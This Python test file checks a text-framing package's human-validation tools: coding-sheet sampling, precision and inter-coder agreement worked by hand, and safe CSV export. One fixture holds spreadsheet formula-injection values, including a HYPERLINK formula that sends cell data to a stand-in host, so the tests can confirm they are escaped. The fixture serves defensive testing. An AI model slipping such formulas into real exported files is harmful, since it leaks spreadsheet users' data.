"""Validation by people: sampling, coding sheets, precision and agreement worked by hand."""

import io
import subprocess

import numpy as np
import pandas as pd
import pytest
from statsmodels.stats.proportion import proportion_confint

import framing
from framing.cli import main
from framing.errors import FramingError, FramingWarning
from framing.validate import read_coding_sheet, validation_report, validation_sample, write_coding_sheet


@pytest.fixture(scope="module")
def small():
    texts = ["The regime said the government would fall.", "The regime struck again.", "A regime source denied it.",
             "The government met.", "The government spoke.", "Government forces moved."]
    return pd.DataFrame({"doc_id": [f"d{i}" for i in range(6)], "outlet": ["X", "X", "X", "Y", "Y", "Y"], "text": texts})


def _sheet(small):
    m = framing.find_mentions(small)
    m = m[m.label.isin(["regime", "government"])]
    return validation_sample(m, small, n=3, by="label", seed=4, width=20)


def test_sample_is_stratified_and_points_into_the_text(small):
    sheet = _sheet(small)
    assert sorted(sheet.label.value_counts().to_dict().items()) == [("government", 3), ("regime", 3)]
    texts = dict(zip(small.doc_id, small.text))
    for r in sheet.itertuples():
        assert texts[r.doc_id][r.start:r.end] == r.match
        assert r.match.lower() in r.sentence.lower()
        assert r.verdict == "" and r.coder == ""
    again = _sheet(small)
    assert sheet.equals(again)  # same seed, same sample
    with pytest.raises(FramingError, match="cannot stratify by bias"):
        validation_sample(framing.find_mentions(small), small, by="bias")
    with pytest.raises(FramingError, match="not in the corpus"):
        validation_sample(framing.find_mentions(small), small.iloc[:2])
    with pytest.raises(FramingError, match="find_mentions or framing.find_attributions"):
        validation_sample(small, small)


def _coded(small, tmp_path):
    """Two coders on the same six items. By label (rows sorted by label, then position):
    government: A = c c w, B = c w w; regime: A = c u c, B = c c c."""
    sheet = _sheet(small).sort_values(["label", "doc_id", "start"]).reset_index(drop=True)
    verdicts = {"A": ["correct", "correct", "wrong", "correct", "unsure", "correct"],
                "B": ["correct", "wrong", "wrong", "correct", "correct", "correct"]}
    paths = []
    for coder, vs in verdicts.items():
        s = sheet.copy()
        s.attrs = dict(sheet.attrs)
        s["verdict"], s["coder"] = vs, coder
        paths.append(write_coding_sheet(s, tmp_path / f"coder-{coder}.csv"))
    return paths


def test_report_worked_by_hand(small, tmp_path):
    a, b = _coded(small, tmp_path)
    rep = validation_report(a, b, corpus=small)
    # consensus per item: government c, (c,w) tie → unsure, w; regime c, (u,c) tie → unsure, c
    p = rep.precision[(rep.precision.what == "verdict") & (rep.precision.outlet == "all")].set_index("value")
    assert p.loc["government", ["correct", "wrong", "unsure"]].tolist() == [1, 1, 1]
    assert p.loc["regime", ["correct", "wrong", "unsure"]].tolist() == [2, 0, 1]
    assert p.loc["(all)", "precision"] == pytest.approx(3 / 4)
    assert (p.loc["(all)", "low"], p.loc["(all)", "high"]) == pytest.approx(proportion_confint(3, 4, method="wilson"))
    ag = rep.agreement.set_index("coders").loc["A, B"]
    # agreement on items 1, 3, 4, 6 of 6
    assert ag["percent_agreement"] == pytest.approx(4 / 6)
    # Cohen: p_o = 4/6; A: c 4, w 1, u 1; B: c 4, w 2 → p_e = 16/36 + 2/36 = 1/2 → κ = 1/3
    assert ag["cohen_kappa"] == pytest.approx(1 / 3)
    # Krippendorff (nominal): o_cc 6, o_ww 2, off-diagonal 4; n_c 8, n_w 3, n_u 1, n 12
    # α = 1 − (n − 1)·4 / (2·(8·3 + 8·1 + 3·1)) = 1 − 44/70
    assert ag["krippendorff_alpha"] == pytest.approx(1 - 44 / 70)
    per_outlet = rep.precision[(rep.precision.what == "verdict") & (rep.precision.outlet != "all")]
    assert set(per_outlet.outlet) == {"X", "Y"}


def test_two_coders_sheets_given_as_tables_are_reported(small, tmp_path):
    # two tables (no file name each) were refused with pandas' "truth value of a DataFrame is ambiguous"
    a, b = (pd.read_csv(p, comment="#", dtype=str, keep_default_na=False) for p in _coded(small, tmp_path))
    rep = validation_report(a, b, corpus=small)
    assert rep.agreement.set_index("coders").loc["A, B", "percent_agreement"] == pytest.approx(4 / 6)
    # one sheet with no coder's name given twice: said so, not a traceback
    with pytest.raises(FramingError, match="more than one sheet with no name in 'coder'"):
        validation_report(a.assign(coder=""), a.assign(coder=""))


def test_sheets_edited_out_of_shape_are_refused(small, tmp_path):
    a, _ = _coded(small, tmp_path)
    text = a.read_text(encoding="utf-8")
    head = "".join(line for line in text.splitlines(keepends=True) if line.startswith("#"))
    body = pd.read_csv(io.StringIO("".join(line for line in text.splitlines(keepends=True) if not line.startswith("#"))),
                       dtype=str, keep_default_na=False)

    def variant(name, df):
        path = tmp_path / name
        buf = io.StringIO()
        df.to_csv(buf, index=False)
        path.write_text(head + buf.getvalue(), encoding="utf-8")
        return path

    bad = body.copy()
    bad.loc[2, "verdict"] = "yes"
    # a bad row is left out and named with its reason; the rest is kept (issue 26)
    with pytest.warns(FramingWarning, match=rf"1 of 6 rows left out — item {bad.loc[2, 'item']}: verdict 'yes' is not one of"):
        kept = read_coding_sheet(variant("value.csv", bad))
    assert len(kept) == 5 and kept.attrs["refused"]["item"].tolist() == [bad.loc[2, "item"]]
    with pytest.raises(FramingError, match="lost column"):
        read_coding_sheet(variant("column.csv", body.drop(columns=["check"])))
    moved = body.copy()
    moved.loc[0, "start"] = str(int(moved.loc[0, "start"]) + 1)
    with pytest.warns(FramingWarning, match=rf"item {moved.loc[0, 'item']}: doc_id, start, end or match was edited"):
        read_coding_sheet(variant("moved.csv", moved))
    with pytest.raises(FramingError, match="no row of the sheet checks — item"):
        read_coding_sheet(variant("all.csv", body.assign(start="x")))
    # the sheet belongs to another corpus: the text at the offsets differs
    other = small.assign(text=small.text.str.replace("The", "An"))
    with pytest.warns(FramingWarning, match="does not belong to this corpus"):
        read_coding_sheet(a, corpus=other)
    twice = pd.concat([body, body.iloc[[0]]])
    with pytest.raises(FramingError, match="coded twice by coder 'A'"):
        validation_report(variant("twice.csv", twice))


def test_one_coder_and_attributions(seeds, tmp_path):
    atts = framing.find_attributions(seeds)
    sheet = validation_sample(atts, seeds, n=2, by="speaker_category", seed=1)
    assert sheet.attrs["kind"] == "attributions" and "category_verdict" in sheet.columns
    sheet["verdict"], sheet["category_verdict"], sheet["coder"] = "correct", "wrong", "solo"
    path = write_coding_sheet(sheet, tmp_path / "atts.csv")
    rep = validation_report(path, corpus=seeds)
    assert rep.agreement.empty  # one coder: nothing to agree on
    cat = rep.precision[(rep.precision.what == "category_verdict") & (rep.precision.value == "(all)")
                        & (rep.precision.outlet == "all")]
    assert cat["precision"].iloc[0] == 0.0 and cat["coded"].iloc[0] == len(sheet)


def test_a_category_verdict_on_a_wrong_attribution_is_not_counted(seeds, tmp_path):
    """The sheet asks to leave category_verdict empty when verdict is wrong; a coder who fills it
    anyway used to have it counted in the category's precision (the category of no speaker)."""
    atts = framing.find_attributions(seeds)
    sheet = validation_sample(atts, seeds, n=2, by="speaker_category", seed=1)
    sheet["verdict"], sheet["category_verdict"], sheet["coder"] = "correct", "correct", "solo"
    sheet.loc[sheet.index[:3], "verdict"] = "wrong"
    path = write_coding_sheet(sheet, tmp_path / "atts.csv")
    with pytest.warns(FramingWarning, match=r"3 row\(s\) coded wrong also have a category_verdict \(items 1, 2, 3\)"):
        rep = validation_report(path, corpus=seeds)
    p = rep.precision[(rep.precision.value == "(all)") & (rep.precision.outlet == "all")].set_index("what")
    assert p.loc["verdict", "coded"] == len(sheet) and p.loc["category_verdict", "coded"] == len(sheet) - 3


def test_committed_example_sheets(seeds_dir):
    docs = seeds_dir.parent / "docs" / "examples"
    rep = validation_report(docs / "validation-seeds-mentions.csv", corpus=framing.load_corpus(seeds_dir))
    overall = rep.precision[(rep.precision.value == "(all)") & (rep.precision.outlet == "all")].iloc[0]
    assert overall["coded"] == 49 and np.isfinite(overall["precision"])


def test_a_sheet_of_another_corpus_says_so_in_one_line(seeds_dir):
    # notebook 06 on a corpus of its own with the seeds' example sheet: the error listed 20 items
    # "document '001_…' is not in the corpus given" (1,460 characters)
    docs = seeds_dir.parent / "docs" / "examples"
    other = pd.DataFrame({"doc_id": ["x"], "outlet": ["X"], "text": ["The regime said so."]})
    with pytest.raises(FramingError) as caught:
        validation_report(docs / "validation-seeds-mentions.csv", corpus=other)
    said = str(caught.value)
    assert "validation-seeds-mentions.csv: none of the 5 documents its 49 rows code is in the corpus given " \
           "('000_0e610ba5e1151d7d', '001_09f594cc2e8375b3', '002_bdb1b9750f5c571d' …)" in said
    assert "a sheet drawn from another corpus?" in said and len(said) < 400


def test_cli_validate(tmp_path, capsys, seeds_dir):
    out = tmp_path / "sheet.csv"
    assert main(["validate", "sample", str(seeds_dir), "-n", "2", "--strata", "family", "-o", str(out), "-q"]) == 0
    assert out.read_text(encoding="utf-8").startswith("# framing coding sheet 1: mentions")
    assert main(["validate", "report", str(out)]) == 0
    assert "no coded rows" in capsys.readouterr().out
    text = out.read_text(encoding="utf-8").replace(",,,\n", ",maybe,me,\n", 1)
    out.write_text(text, encoding="utf-8")
    assert main(["validate", "report", str(out)]) == 0  # the row is left out and named; the rest is reported
    assert "item 1: verdict 'maybe' is not one of" in capsys.readouterr().err


def test_preview_and_notebook_view(small, tmp_path):
    sheet = _sheet(small)
    view = framing.validate.preview(sheet, rows=3)
    assert list(view.columns) == ["item", "outlet", "family", "label", "left", "match", "right"] and len(view) == 3
    a, b = _coded(small, tmp_path)
    html = validation_report(a, b)._repr_html_()
    assert "Precision, all outlets" in html and "cohen_kappa" in html
    assert "One coder" in validation_report(a)._repr_html_()


def test_sample_over_a_coded_sheet_is_refused(small, tmp_path, capsys, seeds_dir):
    """issue 26: `validate sample -o` over a sheet with verdicts filled in deleted the coders' work."""
    a, _ = _coded(small, tmp_path)
    before = a.read_bytes()
    with pytest.raises(FramingError, match=r"is a coded sheet \(6 rows with verdicts.*delete the coders' verdicts"):
        write_coding_sheet(_sheet(small), a, overwrite=True)
    for force in ([], ["--force"]):
        code = main(["validate", "sample", str(seeds_dir), "-n", "1", "-o", str(a), "-q", *force])
        assert code == 1 and "would delete the coders' verdicts" in capsys.readouterr().err
    assert a.read_bytes() == before
    # an existing sheet nobody coded: refused unless told to
    blank = write_coding_sheet(_sheet(small), tmp_path / "blank.csv")
    with pytest.raises(FramingError, match="exists; refusing to write over it"):
        write_coding_sheet(_sheet(small), blank)
    assert main(["validate", "sample", str(seeds_dir), "-n", "1", "-o", str(blank), "-q"]) == 1
    assert "exists" in capsys.readouterr().err
    assert main(["validate", "sample", str(seeds_dir), "-n", "1", "-o", str(blank), "-q", "--force"]) == 0
    # never into the corpus folder
    with pytest.raises(FramingError, match="refusing to write over or into the input"):
        write_coding_sheet(_sheet(small), seeds_dir / "sheet.csv", inputs=(seeds_dir,))


# --- spreadsheets (issue 26): formula injection, encodings, separators, numbers ---------------

HOSTILE = pd.DataFrame({
    "doc_id": ["=1+1", "doc1064", "doc2671", "doc744", "+d", "@d", "-d", "d’é"],
    "outlet": ['=HYPERLINK("http://x?d="&A6,"x")', "X", "X", "X", "-0.5", "Y", "Y", "Y"],
    "text": ["The regime fell.", "The regime fell.", "The regime fell.", "The regime fell.", "The regime — it fell.",
             "The regime fell.", "The regime fell.", "Café: the regime’s fall."]})


def _coded_hostile(path):
    m = framing.find_mentions(HOSTILE)
    sheet = validation_sample(m[m.label == "regime"], HOSTILE, n=20, by="label", seed=0)
    sheet["verdict"], sheet["coder"] = "correct", "A"
    return write_coding_sheet(sheet, path), sheet


def _cells(text):
    import csv

    lines = text.splitlines(keepends=True)
    head = [ln.rstrip("\r\n") for ln in lines if ln.startswith("#")]
    rows = list(csv.reader(io.StringIO("".join(ln for ln in lines if not ln.startswith("#")))))
    return head, rows


def _save_as(path, head, rows, *, sep=",", encoding="utf-8", quoting=None, pad=False):
    """A sheet as a spreadsheet saves it: its separator, encoding and quoting, the header lines
    as one cell followed by empty ones."""
    import csv

    buf = io.StringIO()
    w = csv.writer(buf, delimiter=sep, lineterminator="\r\n", quoting=quoting if quoting is not None else csv.QUOTE_MINIMAL)
    width = len(rows[0])
    for h in head:
        w.writerow([h] + [""] * (width - 1 if pad else 0))
    for r in rows:
        w.writerow([int(c) if quoting == csv.QUOTE_NONNUMERIC and c.isdigit() else c for c in r])
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def test_csv_cells_that_start_a_formula_are_escaped_text_only(tmp_path, capsys):
    """=1+1 in a doc_id became 2 in LibreOffice, a =HYPERLINK(…) outlet a live link."""
    from framing._io import write_table

    src = tmp_path / "c.csv"
    HOSTILE.to_csv(src, index=False)
    out = tmp_path / "m.csv"
    assert main(["mentions", str(src), "-o", str(out), "-q"]) == 0, capsys.readouterr().err
    raw = out.read_text(encoding="utf-8")
    assert "\n'=1+1," in raw and ",\"'=HYPERLINK(\"\"http://x?d=\"\"&A6,\"\"x\"\")\"," in raw and "\n'+d," in raw
    assert "\n=1+1" not in raw and ",=HYPERLINK" not in raw
    table = pd.DataFrame({"word": ["-0.5", "@x", "\tx", "'=x", "ok", "\rx"], "score": [-0.5, 1.0, 2.0, 3.0, 4.0, 5.0]})
    write_table(table, str(tmp_path / "t.csv"))
    written = (tmp_path / "t.csv").read_bytes().decode("utf-8")
    assert written.endswith("\n'\rx,5.0\n")
    back = pd.read_csv(io.StringIO(written.rsplit("\n'\r", 1)[0]), keep_default_na=False)
    assert back["word"].tolist() == ["'-0.5", "'@x", "'\tx", "''=x", "ok"]
    assert back["score"].tolist() == [-0.5, 1.0, 2.0, 3.0, 4.0]  # numbers are data, not formulas


def test_a_coding_sheet_escapes_and_reads_back_exactly(tmp_path):
    path, sheet = _coded_hostile(tmp_path / "s.csv")
    raw = path.read_text(encoding="utf-8")
    assert "'=1+1" in raw and "\"'=HYPERLINK(" in raw and ",'-0.5," in raw
    back = read_coding_sheet(path, corpus=HOSTILE)
    assert back["doc_id"].tolist() == sheet["doc_id"].tolist() and back["outlet"].tolist() == sheet["outlet"].tolist()
    assert all(c.startswith("k") for c in back["check"])  # no spreadsheet takes it for a number


@pytest.mark.parametrize("saved", ["cp1252", "utf-16 tabs", "utf-8 bom semicolons", "quote all text cells",
                                   "old checks turned into numbers"])
def test_a_sheet_saved_by_a_spreadsheet_is_read_whole(tmp_path, capsys, saved):
    """Simulated saves of Excel and LibreOffice (the conversions they make, written by hand)."""
    import csv
    import warnings

    path, sheet = _coded_hostile(tmp_path / "s.csv")
    head, rows = _cells(path.read_text(encoding="utf-8"))
    out = tmp_path / "saved.csv"
    if saved == "cp1252":  # Excel's "CSV (Comma delimited)"
        _save_as(out, head, rows, encoding="cp1252", pad=True)
    elif saved == "utf-16 tabs":  # Excel's "Unicode Text"
        _save_as(out, head, rows, sep="\t", encoding="utf-16", pad=True)
    elif saved == "utf-8 bom semicolons":  # European Excel's "CSV UTF-8"
        _save_as(out, head, rows, sep=";", encoding="utf-8-sig", pad=True)
    elif saved == "quote all text cells":  # LibreOffice's option
        _save_as(out, head, rows, quoting=csv.QUOTE_NONNUMERIC)
    else:  # a sheet written before the letter prefix, opened and saved by a spreadsheet
        col = rows[0].index("check")
        # the old fingerprints of doc1064, doc2671, doc744 look like numbers; LibreOffice saves them so
        numbers = {"0050185320": "50185320", "4623882e39": "4.623882E+045", "29403092e0": "29403092"}
        for r in rows[1:]:
            old = r[col][1:]
            r[col] = numbers.get(old, old)
        assert {r[col] for r in rows[1:]} >= set(numbers.values())
        _save_as(out, head, rows)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        back = read_coding_sheet(out, corpus=HOSTILE)
    assert len(back) == len(sheet) and back["doc_id"].tolist() == sheet["doc_id"].tolist()
    assert main(["validate", "report", str(out)]) == 0
    captured = capsys.readouterr()
    assert "warning" not in captured.err and f"{len(sheet)}" in captured.out


def test_a_sheet_round_tripped_through_libreoffice(tmp_path):
    """`soffice --headless --convert-to csv` (Debian's LibreOffice, default options)."""
    import shutil

    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (the conversions are simulated above)")
    path, sheet = _coded_hostile(tmp_path / "sheet.csv")
    profile = tmp_path / "profile"
    r = subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "csv",
                        "--outdir", str(tmp_path / "lo"), str(path)], capture_output=True, text=True, timeout=180)
    saved = tmp_path / "lo" / "sheet.csv"
    assert saved.exists(), r.stderr
    back = read_coding_sheet(saved, corpus=HOSTILE)
    assert len(back) == len(sheet) and "=1+1" in set(back["doc_id"])
    rep = validation_report(saved, corpus=HOSTILE)
    assert rep.precision.query("value == '(all)' and outlet == 'all'")["coded"].iloc[0] == len(sheet)
